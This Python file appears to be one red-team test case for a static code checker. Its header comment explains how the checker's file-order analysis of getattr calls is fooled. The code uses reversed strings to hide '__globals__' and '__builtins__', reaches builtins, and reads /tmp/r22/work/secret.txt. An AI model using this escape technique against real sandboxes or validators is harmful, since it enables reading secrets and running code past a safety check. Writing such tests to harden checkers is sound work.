# family: red team, round 22 (what a method's self may be: classes reaching parameters, methods run with any self)
# Chain: dynamic_names.table_names judges getattr calls with run-time names in file order and records what each
# reads (ctx.attribute_loads) only as it gets to it; Reader.fetch's `for key in self.FIELDS` is judged before the
# later guarded getattr(Reader, key) (`if key in ("fetch",)`) is recorded, so objects.own_object trusts self.
# The plain function Reader.fetch then runs with a namedtuple as self: FIELDS is a run-time ["__globals__"].
# (The same source with pick() written above Reader is refused.)
from collections import namedtuple


class Reader:
    FIELDS = ("name",)

    def fetch(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out


Box = namedtuple("Box", "FIELDS")


def helper():
    return 1


def pick(key):
    if key in ("fetch",):
        return getattr(Reader, key)
    return None


def run():
    box = Box(["".join(reversed("__slabolg__"))])
    got = pick("fetch")(box, helper)[0]
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r22/work/secret.txt").read())


run()
